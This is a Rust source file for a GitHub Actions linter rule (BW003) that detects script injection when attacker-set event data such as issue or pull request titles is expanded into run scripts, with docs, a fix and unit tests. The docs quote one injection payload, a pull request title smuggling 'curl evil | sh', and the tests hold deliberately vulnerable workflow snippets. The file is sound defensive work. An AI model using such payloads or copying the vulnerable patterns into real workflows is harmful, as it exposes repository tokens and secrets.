//! BW003: attacker-controlled event data expanded into run scripts.

use crate::audit::rule::{Check, FileKind, Rule, Sink};
use crate::audit::workflow::injection::injections;
use crate::audit::workflow::taint::Trust;
use crate::audit::workflow::Workflow;
use crate::report::Severity;
use crate::shown;

pub static RULE: Rule = Rule {
    code: "BW003",
    name: "script-injection",
    kind: FileKind::Workflow,
    severity: Severity::High,
    summary: "A `run:` or github-script `script:` expands data anyone on GitHub can set (`${{ github.event.issue.title }}`...).",
    fix: "Pass the value through `env:` (`TITLE: ${{ github.event.issue.title }}`) and use `\"$TITLE\"` in the script (`process.env.TITLE` in github-script).",
    docs: r#"## What it does
Flags `${{ … }}` expressions in `run:` scripts and in `actions/github-script`'s `script:` whose value an outsider chooses: issue, pull request, discussion and wiki page titles and bodies, comment and review bodies, commit messages and author names and emails (`github.event.head_commit.*`, `commits.*`), the pull request's head branch (`github.head_ref`, `pull_request.head.ref` and `.label`, the fork's default branch), and what a `workflow_run` inherits from the run that triggered it (`workflow_run.head_branch`, `display_title`, `head_commit.*`, `pull_requests.*.head.ref`).

The value is followed to where it was set: `${{ env.X }}` through `env:` at step, job and workflow level and through earlier steps' `>> "$GITHUB_ENV"`; `${{ steps.S.outputs.O }}` through what step `S` writes to `$GITHUB_OUTPUT` (shell variables in between included) or sets with `core.setOutput` / returns in github-script; `${{ needs.J.outputs.O }}` through job `J`'s `outputs:`; and `${{ matrix.K }}` through the strategy's values. `||` and `format()` pass values on, while comparisons, `!` and `contains()`/`startsWith()` give booleans, which are safe. Whitespace and newlines inside `${{ }}` are tolerated.

## Why is this bad?
Expressions are pasted into the script before the shell (or Node) runs it: a pull request titled `"; curl evil | sh; echo "` runs with the workflow's token and secrets. In `pull_request_target`, `issue_comment` and `workflow_run` workflows that token can write to the repository.

## Example
```yaml
steps:
  - run: echo "${{ github.event.pull_request.title }}"
```

## Use instead
```yaml
steps:
  - env:
      TITLE: ${{ github.event.pull_request.title }}
    run: echo "$TITLE"
```

## Compared with other linters
zizmor's `template-injection` is the reference, and berth reports what it reports at high severity, with these deliberate differences:
- Values only someone with write access sets per run (`inputs.*`, `github.ref_name`, `github.base_ref`, release, label and milestone fields) are BW015 (medium), not an outsider's injection.
- Values nobody can put shell syntax into are not reported: numbers and ids (`github.event.pull_request.number`), SHAs (`workflow_run.head_sha`), URLs GitHub builds (`html_url`, `github.api_url`, `comments_url`), fixed words (`github.ref_type`), usernames (`github.actor`, `pusher.name`: letters, digits and `-` only), the base repository's fields (`github.event.repository.default_branch`, `pull_request.base.repo.full_name`), and the workflow's own name (`github.workflow`, `workflow_run.name`), which is code.
- berth follows step outputs, job outputs, `env` and the matrix to their source, so `${{ steps.pr.outputs.title }}` written from a pull request title is reported here at high severity, where zizmor reports an informational, low-confidence finding, and `${{ env.TITLE }}` set from a title is high here where zizmor rates it low.

## References
- GitHub docs: security hardening, "Understanding the risk of script injections"
- GitHub Security Lab: "Keeping your GitHub Actions and workflows secure Part 2: Untrusted input"
- zizmor `template-injection`; checkov CKV_GHA_2
"#,
    opt_in: false,
    check: Check::Workflow(check),
};

fn check(workflow: &Workflow, sink: &mut Sink) {
    for injection in injections(workflow).into_iter().filter(|i| i.trust() == Trust::Attacker) {
        sink.scoped(
            injection.line,
            injection.column,
            &injection.job,
            format!(
                "{} is pasted into {}: its value comes from {}, which anyone on GitHub can set",
                shown::value(&format!("${{{{ {} }}}}", injection.expression)),
                injection.into,
                shown::escape(&shown::clip(&injection.origins(), 4 * shown::MAX_SHOWN))
            ),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::audit::testing::{findings, lines};

    fn workflow(steps: &str) -> String {
        format!("on: pull_request_target\njobs:\n  a:\n    steps:\n{steps}")
    }

    #[test]
    fn flags_untrusted_expressions() {
        let text = workflow("      - run: |\n          echo ok\n          echo \"${{\n            github.event.pull_request.title }}\"\n      - run: echo ${{ github.sha }}\n      - env:\n          T: ${{ github.event.issue.body }}\n        run: echo \"$T\"\n");
        assert_eq!(lines(&RULE, &text), [7]);
    }

    #[test]
    fn values_nobody_can_shape_are_not_injections() {
        for expression in [
            "github.event.repository.default_branch",
            "github.event.pull_request.number",
            "contains(github.event.pull_request.labels.*.name, 'ok')",
            "github.event.pull_request.title == 'x'",
            "github.event.pull_request.base.repo.full_name",
            "github.event.workflow_run.head_sha",
            "github.actor",
            "inputs.tag",
        ] {
            let text = workflow(&format!("      - run: echo \"${{{{ {expression} }}}}\"\n"));
            assert!(lines(&RULE, &text).is_empty(), "{expression}");
        }
    }

    #[test]
    fn follows_env_outputs_and_jobs() {
        let text = "on: issue_comment\nenv:\n  BODY: ${{ github.event.comment.body }}\njobs:\n  a:\n    outputs:\n      title: ${{ steps.t.outputs.title }}\n    steps:\n      - id: t\n        env:\n          T: ${{ github.event.issue.title }}\n        run: |\n          CLEAN=\"$T\"\n          echo \"title=$CLEAN\" >> \"$GITHUB_OUTPUT\"\n      - run: echo \"${{ env.BODY }}\" \"${{ steps.t.outputs.title }}\"\n  b:\n    needs: a\n    steps:\n      - uses: actions/github-script@v8\n        with:\n          script: |\n            const t = \"${{ needs.a.outputs.title }}\"\n";
        let found = findings(&RULE, text);
        assert_eq!(found.iter().map(|f| f.line).collect::<Vec<_>>(), [15, 15, 22]);
        assert!(
            found[2].message.contains("github.event.issue.title") && found[2].message.contains("needs.a.outputs.title"),
            "{}",
            found[2].message
        );
    }

    #[test]
    fn runs_from_the_repository_itself_are_not_outsiders() {
        let text = "on: workflow_run\njobs:\n  a:\n    if: github.event.workflow_run.event != 'pull_request'\n    steps:\n      - run: echo \"${{ github.event.workflow_run.head_branch }}\"\n";
        assert!(lines(&RULE, text).is_empty());
        assert_eq!(lines(&RULE, &text.replace("!=", "==")), [6]);
    }

    #[test]
    fn follows_github_env_and_matrix() {
        let text = workflow("      - run: echo \"REF=${{ github.head_ref }}\" >> \"$GITHUB_ENV\"\n      - run: git push origin \"${{ env.REF }}\"\n");
        assert_eq!(lines(&RULE, &text), [5, 6]);
        let text = "on: push\njobs:\n  a:\n    strategy:\n      matrix:\n        msg: ['${{ github.event.head_commit.message }}', 'x']\n    steps:\n      - run: echo ${{ matrix.msg }}\n";
        assert_eq!(lines(&RULE, text), [8]);
    }
}
